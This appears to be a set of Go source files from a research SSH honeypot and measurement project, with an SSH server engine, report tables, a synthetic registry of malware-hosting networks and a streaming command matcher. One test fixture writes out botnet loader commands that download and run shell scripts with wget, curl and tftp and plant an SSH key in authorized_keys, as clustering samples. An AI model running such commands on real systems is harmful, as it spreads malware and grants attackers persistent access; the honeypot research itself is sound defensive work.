		if _, err := nc.Read(buf); err != nil {
			return // shed: closed with no banner
		}
	}
}
