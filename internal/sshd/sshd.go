// Package sshd implements a minimal SSH server (RFC 4252 password
// authentication and RFC 4254 session channels) on top of
// internal/sshwire. It is the protocol engine under the honeypot: policy
// (which logins succeed, what the shell does) is injected via callbacks.
package sshd

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/sshwire"
)

// ConnMeta describes the authenticated peer of a session.
type ConnMeta struct {
	RemoteAddr    net.Addr
	LocalAddr     net.Addr
	ClientVersion string
	User          string
	SessionID     []byte
}

// Session is one accepted session channel after a "shell" or "exec"
// request. Read returns client stdin; Write sends output to the client.
type Session struct {
	Meta    ConnMeta
	Command string // non-empty for exec requests
	IsShell bool
	PTY     bool
	Term    string
	Env     map[string]string

	ch *sshwire.Channel
}

// Read returns data the client typed (stdin).
func (s *Session) Read(p []byte) (int, error) { return s.ch.Read(p) }

// Write sends output to the client.
func (s *Session) Write(p []byte) (int, error) { return s.ch.Write(p) }

// Exit sends the exit status and closes the channel.
func (s *Session) Exit(status uint32) error {
	_ = s.ch.SendExitStatus(status)
	_ = s.ch.CloseWrite()
	return s.ch.Close()
}

// Config parameterizes the server.
type Config struct {
	// HostKey is the server identity. Required.
	HostKey *sshwire.HostKey
	// Version is the SSH banner; defaults to sshwire.DefaultServerVersion.
	Version string
	// Auth decides whether a password login succeeds. Required.
	Auth func(meta ConnMeta, user, password string) bool
	// OnAuthAttempt observes every attempt (for honeypot recording).
	OnAuthAttempt func(meta ConnMeta, user, password string, ok bool)
	// Handler runs each accepted shell/exec session. Required.
	Handler func(s *Session)
	// MaxAuthTries disconnects clients after this many failed attempts.
	// Zero means the OpenSSH default of 6.
	MaxAuthTries int
	// ConnTimeout is the hard deadline for a whole connection, emulating
	// the honeynet's 3-minute session cap. Zero disables it.
	ConnTimeout time.Duration
	// HandshakeTimeout bounds the transport handshake.
	HandshakeTimeout time.Duration
	// Gate, if set, is consulted by Serve for each accepted connection
	// (e.g. a guard.Limiter). ok=false sheds the connection: Serve
	// closes it without handshaking. On ok, release (which may be nil)
	// is called when the connection ends.
	Gate func(nc net.Conn) (release func(), ok bool)
}

func (c *Config) maxTries() int {
	if c.MaxAuthTries > 0 {
		return c.MaxAuthTries
	}
	return 6
}

// Server accepts SSH connections and dispatches sessions.
type Server struct {
	cfg Config

	// Accept-loop counters (Serve only; HandleConn callers count their
	// own accepts).
	accepted atomic.Int64
	shed     atomic.Int64
}

// AcceptStats returns how many connections Serve admitted and how many
// its Gate shed.
func (s *Server) AcceptStats() (accepted, shed int64) {
	return s.accepted.Load(), s.shed.Load()
}

// Register exposes the accept-loop counters on reg:
//
//	honeynet_sshd_conns_total{result="accepted"|"shed"}
func (s *Server) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_sshd_conns_total",
		"Connections seen by the SSH accept loop, by admission result.",
		s.accepted.Load, obs.L("result", "accepted"))
	reg.CounterFunc("honeynet_sshd_conns_total",
		"Connections seen by the SSH accept loop, by admission result.",
		s.shed.Load, obs.L("result", "shed"))
}

// New validates cfg and returns a Server.
func New(cfg Config) (*Server, error) {
	if cfg.HostKey == nil {
		return nil, errors.New("sshd: Config.HostKey is required")
	}
	if cfg.Auth == nil {
		return nil, errors.New("sshd: Config.Auth is required")
	}
	if cfg.Handler == nil {
		return nil, errors.New("sshd: Config.Handler is required")
	}
	return &Server{cfg: cfg}, nil
}

// Serve accepts connections from ln until it is closed. Each connection
// is handled on its own goroutine.
func (s *Server) Serve(ln net.Listener) error {
	for {
		c, err := ln.Accept()
		if err != nil {
			return err
		}
		var release func()
		if s.cfg.Gate != nil {
			var ok bool
			if release, ok = s.cfg.Gate(c); !ok {
				s.shed.Add(1)
				_ = c.Close()
				continue
			}
		}
		s.accepted.Add(1)
		go func() {
			if release != nil {
				defer release()
			}
			_ = s.HandleConn(c)
		}()
	}
}

// HandleConn runs the complete SSH lifecycle for one TCP connection:
// handshake, authentication, and session dispatch. It returns when the
// connection ends.
func (s *Server) HandleConn(nc net.Conn) error {
	defer nc.Close()
	if s.cfg.ConnTimeout > 0 {
		_ = nc.SetDeadline(time.Now().Add(s.cfg.ConnTimeout))
	}
	tcfg := &sshwire.Config{
		Version:          s.cfg.Version,
		HostKey:          s.cfg.HostKey,
		HandshakeTimeout: s.cfg.HandshakeTimeout,
	}
	conn, err := sshwire.ServerHandshake(nc, tcfg)
	if err != nil {
		return fmt.Errorf("sshd: handshake: %w", err)
	}
	// Re-apply the overall deadline: the handshake may have cleared it.
	if s.cfg.ConnTimeout > 0 {
		_ = nc.SetDeadline(time.Now().Add(s.cfg.ConnTimeout))
	}
	if _, err := conn.AcceptService("ssh-userauth"); err != nil {
		return err
	}
	meta := ConnMeta{
		RemoteAddr:    conn.RemoteAddr(),
		LocalAddr:     conn.LocalAddr(),
		ClientVersion: conn.RemoteVersion(),
		SessionID:     conn.SessionID(),
	}
	user, err := s.authenticate(conn, &meta)
	if err != nil {
		return err
	}
	meta.User = user
	return s.serveConnection(conn, meta)
}

// authenticate runs the ssh-userauth protocol until success or failure.
func (s *Server) authenticate(conn *sshwire.Conn, meta *ConnMeta) (string, error) {
	tries := 0
	for {
		payload, err := conn.ReadPacket()
		if err != nil {
			return "", err
		}
		r := sshwire.NewReader(payload)
		if t := r.Byte(); t != sshwire.MsgUserauthRequest {
			return "", fmt.Errorf("sshd: expected USERAUTH_REQUEST, got %s", sshwire.MsgName(t))
		}
		user := r.StringS()
		service := r.StringS()
		method := r.StringS()
		if service != "ssh-connection" {
			_ = conn.Disconnect(sshwire.DisconnectByApplication, "unsupported service")
			return "", fmt.Errorf("sshd: unsupported service %q", service)
		}
		switch method {
		case "password":
			r.Bool() // FALSE: not a password change
			password := r.StringS()
			if err := r.Err(); err != nil {
				return "", err
			}
			ok := s.cfg.Auth(*meta, user, password)
			if s.cfg.OnAuthAttempt != nil {
				s.cfg.OnAuthAttempt(*meta, user, password, ok)
			}
			if ok {
				if err := conn.WritePacket([]byte{sshwire.MsgUserauthSuccess}); err != nil {
					return "", err
				}
				return user, nil
			}
			tries++
			if tries >= s.cfg.maxTries() {
				_ = conn.Disconnect(sshwire.DisconnectNoMoreAuthMethods, "too many authentication failures")
				return "", errors.New("sshd: too many authentication failures")
			}
			if err := writeAuthFailure(conn); err != nil {
				return "", err
			}
		case "none":
			if err := writeAuthFailure(conn); err != nil {
				return "", err
			}
		default:
			if err := writeAuthFailure(conn); err != nil {
				return "", err
			}
		}
	}
}

func writeAuthFailure(conn *sshwire.Conn) error {
	b := sshwire.NewBuilder(32)
	b.Byte(sshwire.MsgUserauthFailure)
	b.NameList([]string{"password"})
	b.Bool(false)
	return conn.WritePacket(b.Bytes())
}

// serveConnection dispatches session channels until the connection ends.
func (s *Server) serveConnection(conn *sshwire.Conn, meta ConnMeta) error {
	mux := sshwire.NewMux(conn)
	var wg sync.WaitGroup
	for nc := range mux.Incoming() {
		if nc.ChanType != "session" {
			_ = nc.Reject(sshwire.OpenUnknownChannelType, "unsupported channel type")
			continue
		}
		ch, err := nc.Accept()
		if err != nil {
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			s.serveSession(ch, meta)
		}()
	}
	wg.Wait()
	err := mux.Wait()
	if errors.Is(err, net.ErrClosed) {
		return nil
	}
	return err
}

// serveSession processes channel requests on one session channel and
// invokes the handler on shell/exec.
func (s *Server) serveSession(ch *sshwire.Channel, meta ConnMeta) {
	sess := &Session{Meta: meta, Env: map[string]string{}, ch: ch}
	started := false
	for req := range ch.Requests() {
		switch req.Type {
		case "pty-req":
			r := sshwire.NewReader(req.Payload)
			sess.PTY = true
			sess.Term = r.StringS()
			_ = req.Reply(true)
		case "env":
			r := sshwire.NewReader(req.Payload)
			k := r.StringS()
			v := r.StringS()
			if r.Err() == nil {
				sess.Env[k] = v
			}
			_ = req.Reply(true)
		case "shell":
			if started {
				_ = req.Reply(false)
				continue
			}
			started = true
			sess.IsShell = true
			_ = req.Reply(true)
			s.cfg.Handler(sess)
			return
		case "exec":
			if started {
				_ = req.Reply(false)
				continue
			}
			started = true
			r := sshwire.NewReader(req.Payload)
			sess.Command = r.StringS()
			_ = req.Reply(true)
			s.cfg.Handler(sess)
			return
		case "window-change", "signal":
			_ = req.Reply(true)
		case "subsystem":
			// sftp and friends: not emulated (this is exactly the gap the
			// paper describes — files moved via sftp/scp are not captured).
			_ = req.Reply(false)
		default:
			_ = req.Reply(false)
		}
	}
}
