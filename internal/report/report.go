// Package report renders analysis results as aligned text tables and
// CSV, the output format of the benchmark harness (one table per paper
// figure).
package report

import (
	"fmt"
	"strings"
)

// Table is a generic result table.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
}

// AddRow appends a row, stringifying the values.
func (t *Table) AddRow(vals ...any) {
	row := make([]string, len(vals))
	for i, v := range vals {
		switch x := v.(type) {
		case string:
			row[i] = x
		case float64:
			row[i] = fmt.Sprintf("%.3f", x)
		case float32:
			row[i] = fmt.Sprintf("%.3f", x)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// String renders the table with aligned columns.
func (t *Table) String() string {
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("=", len(t.Title)))
		b.WriteByte('\n')
	}
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(c)
			if i < len(widths) && len(c) < widths[i] {
				b.WriteString(strings.Repeat(" ", widths[i]-len(c)))
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	return b.String()
}

// CSV renders the table as comma-separated values (fields containing
// commas or quotes are quoted).
func (t *Table) CSV() string {
	var b strings.Builder
	writeCSVRow(&b, t.Headers)
	for _, row := range t.Rows {
		writeCSVRow(&b, row)
	}
	return b.String()
}

func writeCSVRow(b *strings.Builder, cells []string) {
	for i, c := range cells {
		if i > 0 {
			b.WriteByte(',')
		}
		if strings.ContainsAny(c, ",\"\n") {
			b.WriteByte('"')
			b.WriteString(strings.ReplaceAll(c, `"`, `""`))
			b.WriteByte('"')
		} else {
			b.WriteString(c)
		}
	}
	b.WriteByte('\n')
}

// Pct formats a ratio as a percentage string.
func Pct(num, den int) string {
	if den == 0 {
		return "n/a"
	}
	return fmt.Sprintf("%.1f%%", 100*float64(num)/float64(den))
}
