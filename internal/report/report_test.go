package report

import (
	"strings"
	"testing"
)

func TestTableRendering(t *testing.T) {
	tb := &Table{Title: "Demo", Headers: []string{"name", "count"}}
	tb.AddRow("alpha", 1)
	tb.AddRow("b", 22)
	out := tb.String()
	if !strings.Contains(out, "Demo\n====") {
		t.Errorf("title underline missing:\n%s", out)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	// Title, underline, header, separator, 2 rows.
	if len(lines) != 6 {
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	// Columns aligned: "alpha" and "b" rows start headers at same offset.
	if !strings.HasPrefix(lines[4], "alpha  1") {
		t.Errorf("row 1 = %q", lines[4])
	}
	if !strings.HasPrefix(lines[5], "b      22") {
		t.Errorf("row 2 = %q", lines[5])
	}
}

func TestAddRowFormatsFloats(t *testing.T) {
	tb := &Table{Headers: []string{"v"}}
	tb.AddRow(0.123456)
	if tb.Rows[0][0] != "0.123" {
		t.Errorf("float cell = %q", tb.Rows[0][0])
	}
	tb.AddRow(float32(2.0))
	if tb.Rows[1][0] != "2.000" {
		t.Errorf("float32 cell = %q", tb.Rows[1][0])
	}
}

func TestCSVEscaping(t *testing.T) {
	tb := &Table{Headers: []string{"a", "b"}}
	tb.AddRow(`plain`, `has,comma`)
	tb.AddRow(`has"quote`, "x")
	csv := tb.CSV()
	want := "a,b\nplain,\"has,comma\"\n\"has\"\"quote\",x\n"
	if csv != want {
		t.Errorf("CSV = %q, want %q", csv, want)
	}
}

func TestPct(t *testing.T) {
	if got := Pct(1, 4); got != "25.0%" {
		t.Errorf("Pct = %q", got)
	}
	if got := Pct(1, 0); got != "n/a" {
		t.Errorf("Pct div0 = %q", got)
	}
}
