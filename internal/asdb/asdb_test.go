package asdb

import (
	"math/rand"
	"testing"
	"time"
)

func TestClientPoolComposition(t *testing.T) {
	reg := NewRegistry(1, 2000)
	counts := map[Type]int{}
	for _, as := range reg.Clients() {
		counts[as.Type]++
	}
	total := len(reg.Clients())
	if total != 2000 {
		t.Fatalf("clients = %d", total)
	}
	if frac := float64(counts[TypeISPNSP]) / float64(total); frac < 0.65 || frac > 0.80 {
		t.Errorf("ISP/NSP client share = %.2f, want ~0.72", frac)
	}
}

func TestIPLookupRoundTrip(t *testing.T) {
	reg := NewRegistry(2, 100)
	rng := rand.New(rand.NewSource(1))
	at := time.Date(2023, 6, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < 50; i++ {
		as := reg.SampleClientAS(rng)
		ip := reg.IPFor(as, rng.Intn(4000))
		got, ok := reg.Lookup(ip, at)
		if !ok {
			t.Fatalf("Lookup(%s) failed", ip)
		}
		if got.ASN != as.ASN {
			t.Errorf("Lookup(%s) = AS%d, want AS%d", ip, got.ASN, as.ASN)
		}
	}
}

func TestLookupRejectsForeignIPs(t *testing.T) {
	reg := NewRegistry(3, 10)
	at := time.Now()
	for _, ip := range []string{"8.8.8.8", "not-an-ip", "2001:db8::1", "9.255.255.255"} {
		if _, ok := reg.Lookup(ip, at); ok {
			t.Errorf("Lookup(%s) should fail", ip)
		}
	}
}

func TestHistoricLookupRespectsRegistration(t *testing.T) {
	reg := NewRegistry(4, 10)
	rng := rand.New(rand.NewSource(1))
	// Sample a storage AS registered very recently relative to `at`.
	at := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	var young *AS
	for i := 0; i < 200; i++ {
		as := reg.SampleStorageAS(rng, at)
		if as.AgeAt(at) < 365*24*time.Hour {
			young = as
			break
		}
	}
	if young == nil {
		t.Fatal("no young AS sampled in 200 draws (should be ~35%)")
	}
	ip := reg.IPFor(young, 1)
	// Before its registration, the prefix was not announced.
	if _, ok := reg.Lookup(ip, young.Registered.AddDate(-1, 0, 0)); ok {
		t.Error("historic lookup should fail before AS registration")
	}
	if _, ok := reg.Lookup(ip, at); !ok {
		t.Error("lookup at sample time should succeed")
	}
}

func TestStorageAgeDistribution(t *testing.T) {
	reg := NewRegistry(5, 10)
	rng := rand.New(rand.NewSource(9))
	at := time.Date(2023, 6, 1, 0, 0, 0, 0, time.UTC)
	const year = 365 * 24 * time.Hour
	n, under1, under5 := 5000, 0, 0
	for i := 0; i < n; i++ {
		as := reg.SampleStorageAS(rng, at)
		age := as.AgeAt(at)
		if age < year {
			under1++
		}
		if age < 5*year {
			under5++
		}
	}
	// Figure 8(a): >35% younger than a year, >70% younger than five.
	if frac := float64(under1) / float64(n); frac < 0.25 || frac > 0.50 {
		t.Errorf("age<1y share = %.2f, want ~0.35", frac)
	}
	if frac := float64(under5) / float64(n); frac < 0.60 || frac > 0.85 {
		t.Errorf("age<5y share = %.2f, want ~0.70", frac)
	}
}

func TestStorageSizeDistribution(t *testing.T) {
	reg := NewRegistry(6, 10)
	rng := rand.New(rand.NewSource(10))
	at := time.Date(2023, 6, 1, 0, 0, 0, 0, time.UTC)
	seen := map[int]*AS{}
	for i := 0; i < 3000; i++ {
		as := reg.SampleStorageAS(rng, at)
		seen[as.ASN] = as
	}
	one, under50, total := 0, 0, 0
	for _, as := range seen {
		total++
		if as.Prefixes24 == 1 {
			one++
		}
		if as.Prefixes24 < 50 {
			under50++
		}
	}
	// Figure 8(b): ~20% single /24, ~50% below 50.
	if frac := float64(one) / float64(total); frac < 0.10 || frac > 0.32 {
		t.Errorf("single-/24 share = %.2f, want ~0.20", frac)
	}
	if frac := float64(under50) / float64(total); frac < 0.35 || frac > 0.65 {
		t.Errorf("<50-/24 share = %.2f, want ~0.50", frac)
	}
}

func TestStorageASCapAt388(t *testing.T) {
	reg := NewRegistry(7, 10)
	rng := rand.New(rand.NewSource(11))
	// Spread draws over time so many quarters are requested.
	for i := 0; i < 20000; i++ {
		at := time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i%1000)
		reg.SampleStorageAS(rng, at)
	}
	if n := reg.StorageASCount(); n > 388 {
		t.Errorf("storage AS count = %d, exceeds the 388 cap", n)
	} else if n < 300 {
		t.Errorf("storage AS count = %d, expected near the cap under heavy sampling", n)
	}
}

func TestStorageTypeComposition(t *testing.T) {
	reg := NewRegistry(8, 10)
	rng := rand.New(rand.NewSource(12))
	at := time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)
	seen := map[int]*AS{}
	for i := 0; i < 4000; i++ {
		as := reg.SampleStorageAS(rng, at.AddDate(0, 0, i%500))
		seen[as.ASN] = as
	}
	hosting, total := 0, 0
	for _, as := range seen {
		total++
		if as.Type == TypeHosting {
			hosting++
		}
	}
	// Section 7: 358 of 388 are hosting-like.
	if frac := float64(hosting) / float64(total); frac < 0.70 {
		t.Errorf("hosting share = %.2f, want dominant", frac)
	}
}

func TestTypeStrings(t *testing.T) {
	want := map[Type]string{TypeCDN: "CDN", TypeHosting: "Hosting", TypeISPNSP: "ISP/NSP", TypeOther: "Other"}
	for typ, s := range want {
		if typ.String() != s {
			t.Errorf("%d.String() = %q, want %q", typ, typ.String(), s)
		}
	}
}

func TestDeterminism(t *testing.T) {
	a := NewRegistry(42, 50)
	b := NewRegistry(42, 50)
	for i := range a.Clients() {
		x, y := a.Clients()[i], b.Clients()[i]
		if x.ASN != y.ASN || x.Type != y.Type || !x.Registered.Equal(y.Registered) {
			t.Fatalf("registries diverge at client %d", i)
		}
	}
}
