// Package asdb is the synthetic Autonomous System registry standing in
// for the historic-WHOIS + bgp.tools + PeeringDB pipeline of section 3.5.
// It supplies, for any (IP, time) pair, the announcing AS with its type
// tag (CDN / Hosting / ISP-NSP / Other), registration date, and announced
// /24 count — the three attributes Figures 7, 8, and 17 join on.
//
// The registry is deterministic given a seed. IPs are allocated from
// 10.0.0.0/8 in fixed-size per-AS blocks so reverse lookup is O(1), like
// a longest-prefix match over per-AS aggregates.
package asdb

import (
	"encoding/binary"
	"fmt"
	"math/rand"
	"net"
	"sync"
	"time"
)

// Type tags an AS the way bgp.tools/PeeringDB labels collapse in the
// paper's analysis.
type Type int

// AS type tags.
const (
	TypeCDN Type = iota
	TypeHosting
	TypeISPNSP
	TypeOther
)

// String returns the tag label used in the figures.
func (t Type) String() string {
	switch t {
	case TypeCDN:
		return "CDN"
	case TypeHosting:
		return "Hosting"
	case TypeISPNSP:
		return "ISP/NSP"
	case TypeOther:
		return "Other"
	default:
		return "?"
	}
}

// AS is one autonomous system.
type AS struct {
	ASN        int
	Name       string
	Type       Type
	Registered time.Time
	// Prefixes24 is the deaggregated /24 count the AS announces.
	Prefixes24 int
	// Down marks ASes that no longer announce any prefix (the paper
	// found 36 such among malware-storage ASes).
	Down bool

	index int // block index for IP allocation
}

// AgeAt returns the AS age at time t.
func (a *AS) AgeAt(t time.Time) time.Duration { return t.Sub(a.Registered) }

// hostBits is the size of each AS's IP block: 4096 addresses.
const hostBits = 12

// ipBase is the start of the allocation space (10.0.0.0).
const ipBase = uint32(10) << 24

// Registry is the AS database. Safe for concurrent reads after
// construction; SampleStorageAS mutates lazily and is internally locked.
type Registry struct {
	mu   sync.Mutex
	rng  *rand.Rand
	all  []*AS
	next int

	clients []*AS
	// storageByQuarter lazily creates storage ASes bucketed by
	// registration quarter, capped at the paper's 388 total.
	storageByQuarter map[int64][]*AS
	storageCount     int
	storageCap       int
}

// NewRegistry builds a registry with nClients client-side ASes (ISP/NSP
// heavy, matching the Sankey's left side) using the given seed.
func NewRegistry(seed int64, nClients int) *Registry {
	r := &Registry{
		rng:              rand.New(rand.NewSource(seed)),
		storageByQuarter: map[int64][]*AS{},
		storageCap:       388,
	}
	for i := 0; i < nClients; i++ {
		// Client IPs are mostly end hosts: 72% ISP/NSP, 15% Hosting,
		// 3% CDN, 10% Other.
		var typ Type
		switch p := r.rng.Float64(); {
		case p < 0.72:
			typ = TypeISPNSP
		case p < 0.87:
			typ = TypeHosting
		case p < 0.90:
			typ = TypeCDN
		default:
			typ = TypeOther
		}
		// Client ASes skew old (established eyeball networks).
		reg := time.Date(1995+r.rng.Intn(25), time.Month(1+r.rng.Intn(12)), 1+r.rng.Intn(28), 0, 0, 0, 0, time.UTC)
		as := r.newAS(typ, reg, r.samplePrefixCount(false))
		r.clients = append(r.clients, as)
	}
	return r
}

// newAS registers an AS and assigns its IP block. Caller holds no lock
// during construction; lazily-created storage ASes are created under mu.
func (r *Registry) newAS(typ Type, registered time.Time, prefixes int) *AS {
	as := &AS{
		ASN:        64512 + r.next, // private-use ASN space, then beyond
		Name:       fmt.Sprintf("AS-%s-%d", typ, 64512+r.next),
		Type:       typ,
		Registered: registered,
		Prefixes24: prefixes,
		index:      r.next,
	}
	r.next++
	r.all = append(r.all, as)
	return as
}

// samplePrefixCount draws an announced-/24 count. Storage ASes follow
// Figure 8(b): ~20% single /24, ~30% below 50, ~50% above.
func (r *Registry) samplePrefixCount(storage bool) int {
	p := r.rng.Float64()
	if storage {
		switch {
		case p < 0.20:
			return 1
		case p < 0.50:
			return 2 + r.rng.Intn(48)
		default:
			return 50 + r.rng.Intn(2000)
		}
	}
	// Client-side (eyeball) networks are typically large.
	return 10 + r.rng.Intn(5000)
}

// Clients returns the client-AS pool.
func (r *Registry) Clients() []*AS { return r.clients }

// SampleClientAS draws a client AS uniformly.
func (r *Registry) SampleClientAS(rng *rand.Rand) *AS {
	return r.clients[rng.Intn(len(r.clients))]
}

// SampleStorageAS draws a malware-storage AS whose age at time `at`
// follows Figure 8(a): ~35% younger than one year, ~70% younger than
// five. ASes are created lazily per registration quarter and reused,
// capped at 388 distinct ASes, so repeated draws reuse infrastructure
// the way the paper observes.
func (r *Registry) SampleStorageAS(rng *rand.Rand, at time.Time) *AS {
	var age time.Duration
	const year = 365 * 24 * time.Hour
	switch p := rng.Float64(); {
	case p < 0.35:
		age = time.Duration(rng.Int63n(int64(year)))
	case p < 0.70:
		age = year + time.Duration(rng.Int63n(int64(4*year)))
	default:
		age = 5*year + time.Duration(rng.Int63n(int64(20*year)))
	}
	reg := at.Add(-age)
	quarter := reg.Year()*4 + (int(reg.Month())-1)/3

	r.mu.Lock()
	defer r.mu.Unlock()
	bucket := r.storageByQuarter[int64(quarter)]
	// Reuse an existing AS from the quarter most of the time; grow the
	// pool until the cap.
	if len(bucket) > 0 && (r.storageCount >= r.storageCap || rng.Float64() < 0.8) {
		return bucket[rng.Intn(len(bucket))]
	}
	if r.storageCount >= r.storageCap {
		// Cap reached and quarter empty: fall back to the nearest
		// populated quarter.
		for d := 1; d < 200; d++ {
			if b := r.storageByQuarter[int64(quarter-d)]; len(b) > 0 {
				return b[rng.Intn(len(b))]
			}
			if b := r.storageByQuarter[int64(quarter+d)]; len(b) > 0 {
				return b[rng.Intn(len(b))]
			}
		}
	}
	// Storage-pool composition: 358/388 hosting-like (92%), the rest
	// ISPs — the section 7 breakdown.
	typ := TypeHosting
	switch p := r.rng.Float64(); {
	case p < 0.08:
		typ = TypeISPNSP
	case p < 0.13:
		typ = TypeCDN
	case p < 0.18:
		typ = TypeOther
	}
	regDay := time.Date(reg.Year(), reg.Month(), 1+r.rng.Intn(28), 0, 0, 0, 0, time.UTC)
	as := r.newAS(typ, regDay, r.samplePrefixCount(true))
	if r.rng.Float64() < float64(36)/388 {
		as.Down = true // no longer announcing, like the 36 dead ASes found
	}
	r.storageByQuarter[int64(quarter)] = append(bucket, as)
	r.storageCount++
	return as
}

// StorageASCount returns how many distinct storage ASes exist so far.
func (r *Registry) StorageASCount() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.storageCount
}

// IPFor returns the host'th IP address inside the AS's block.
func (r *Registry) IPFor(as *AS, host int) string {
	v := ipBase + uint32(as.index)<<hostBits + uint32(host)&(1<<hostBits-1)
	var b [4]byte
	binary.BigEndian.PutUint32(b[:], v)
	return net.IP(b[:]).String()
}

// Lookup returns the AS announcing ip at time `at` (historic lookup).
// The boolean is false for addresses outside the registry or announced
// only after `at`.
func (r *Registry) Lookup(ip string, at time.Time) (*AS, bool) {
	parsed := net.ParseIP(ip)
	if parsed == nil {
		return nil, false
	}
	v4 := parsed.To4()
	if v4 == nil {
		return nil, false
	}
	v := binary.BigEndian.Uint32(v4)
	if v < ipBase {
		return nil, false
	}
	idx := int((v - ipBase) >> hostBits)
	r.mu.Lock()
	defer r.mu.Unlock()
	if idx < 0 || idx >= len(r.all) {
		return nil, false
	}
	as := r.all[idx]
	if as.Registered.After(at) {
		return nil, false
	}
	return as, true
}
