package live

import "regexp/syntax"

// necessaryLits derives a disjunctive necessary condition from a regex:
// a set of plain substrings such that every match of expr contains at
// least one of them. A text containing none of the returned literals
// therefore cannot match expr, so the automaton pass can refute the
// regex without running it. Returns nil when no such set can be proven
// (the regex must then always be run).
//
// This is what lets the streaming matcher prefilter regexes the batch
// path has no literal for: `\bcurl\b` has no complete literal form
// (LiteralPrefix is incomplete because of the word boundaries), but
// every match of it contains "curl".
func necessaryLits(expr string) []string {
	re, err := syntax.Parse(expr, syntax.Perl)
	if err != nil {
		return nil
	}
	return dedupLits(litsOf(re))
}

// litsOf walks the parse tree. Soundness, by structural induction: for
// every node handled below, any string the node matches contains at
// least one literal of the returned set; nil means "no guarantee".
// Nodes that can match the empty string or an unconstrained character
// set (Star, Quest, CharClass, AnyChar, empty-width assertions, ...)
// fall through to nil.
func litsOf(re *syntax.Regexp) []string {
	switch re.Op {
	case syntax.OpLiteral:
		// A case-folded literal matches more strings than its spelling;
		// only an exact literal is a containment guarantee.
		if re.Flags&syntax.FoldCase != 0 || len(re.Rune) == 0 {
			return nil
		}
		return []string{string(re.Rune)}
	case syntax.OpCapture:
		return litsOf(re.Sub[0])
	case syntax.OpPlus:
		// The sub-expression matches at least once, so its necessary
		// literals are necessary for the whole.
		return litsOf(re.Sub[0])
	case syntax.OpRepeat:
		if re.Min >= 1 {
			return litsOf(re.Sub[0])
		}
	case syntax.OpConcat:
		// Every part of a concatenation matches, so any one part's set
		// would do; keep the most selective (longest minimum literal,
		// then fewest alternatives).
		var best []string
		for _, sub := range re.Sub {
			best = moreSelective(best, litsOf(sub))
		}
		return best
	case syntax.OpAlternate:
		// A match satisfies one branch; the union of per-branch sets is
		// necessary — but only if every branch contributes one.
		var union []string
		for _, sub := range re.Sub {
			ls := litsOf(sub)
			if ls == nil {
				return nil
			}
			union = append(union, ls...)
		}
		return union
	}
	return nil
}

// moreSelective picks the stronger of two necessary-literal sets: the
// one whose shortest literal is longest, with fewer alternatives as the
// tiebreak. nil loses to anything.
func moreSelective(a, b []string) []string {
	if b == nil {
		return a
	}
	if a == nil {
		return b
	}
	am, bm := minLitLen(a), minLitLen(b)
	if am != bm {
		if bm > am {
			return b
		}
		return a
	}
	if len(b) < len(a) {
		return b
	}
	return a
}

func minLitLen(ls []string) int {
	n := len(ls[0])
	for _, l := range ls[1:] {
		if len(l) < n {
			n = len(l)
		}
	}
	return n
}

func dedupLits(ls []string) []string {
	if len(ls) < 2 {
		return ls
	}
	seen := make(map[string]bool, len(ls))
	out := ls[:0]
	for _, l := range ls {
		if !seen[l] {
			seen[l] = true
			out = append(out, l)
		}
	}
	return out
}
