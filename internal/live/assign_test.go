package live

import (
	"math/rand"
	"testing"

	"honeynet/internal/textdist"
)

// assignCorpus fabricates command-text variants around a few distinct
// templates, the shape live assignment sees from loader campaigns.
func assignCorpus(n int, seed int64) []string {
	templates := []string{
		"cd /tmp; wget http://%s/bot.sh; chmod +x bot.sh; ./bot.sh",
		"cd ~ && rm -rf .ssh && echo ssh-rsa %s >> .ssh/authorized_keys",
		"uname -a; nproc; curl -fsSL http://%s/x86 -o /tmp/x; /tmp/x",
		"/bin/busybox %s; tftp -g -r a.sh 10.0.0.1; sh a.sh",
	}
	rng := rand.New(rand.NewSource(seed))
	out := make([]string, 0, n)
	for i := 0; i < n; i++ {
		t := templates[rng.Intn(len(templates))]
		tag := string([]byte{
			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
		})
		out = append(out, replaceVerb(t, tag))
	}
	return out
}

func replaceVerb(t, tag string) string {
	b := make([]byte, 0, len(t)+len(tag))
	for i := 0; i < len(t); i++ {
		if t[i] == '%' && i+1 < len(t) && t[i+1] == 's' {
			b = append(b, tag...)
			i++
			continue
		}
		b = append(b, t[i])
	}
	return string(b)
}

// TestAssignDeterminism is the second correctness bar: identical seed
// and arrival order must yield identical medoids, assignments, and
// counters.
func TestAssignDeterminism(t *testing.T) {
	texts := assignCorpus(3000, 42)
	run := func() *assigner {
		a := newAssigner(8, 64, 0.4, 0.3, 100, 7)
		for _, txt := range texts {
			a.observe(txt)
		}
		return a
	}
	a, b := run(), run()
	if len(a.medoids) != len(b.medoids) {
		t.Fatalf("medoid counts differ: %d vs %d", len(a.medoids), len(b.medoids))
	}
	for i := range a.medoids {
		if a.medoids[i].text != b.medoids[i].text {
			t.Fatalf("medoid %d differs: %q vs %q", i, a.medoids[i].text, b.medoids[i].text)
		}
